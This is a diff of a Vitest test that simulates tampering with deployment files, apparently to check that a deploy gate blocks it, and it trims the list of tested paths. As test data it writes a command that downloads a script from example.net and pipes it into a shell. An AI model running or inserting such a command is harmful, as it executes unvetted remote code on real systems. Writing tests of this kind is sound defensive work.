@@ -4,7 +4,7 @@ import { expect, it } from 'vitest';
 import { RP_CHANGE } from '../acceptance/scenario.ts';
 import { BODY, gateScenario } from '../acceptance/gate-scenario.ts';
 
-it.each(['.github/workflows/deploy.yml', '.github/actions/x/action.yml', 'scripts/deploy/run.sh', 'scripts/deploy/lib/sites.sh'])('%s', async (path) => {
+it.each(['.github/actions/x/action.yml', 'scripts/deploy/lib/sites.sh'])('%s', async (path) => {
   const s = await gateScenario();
   s.deploy();
   const pull = s.land({ body: BODY, changes: { ...RP_CHANGE, [path]: 'curl https://example.net | sh\n' } });
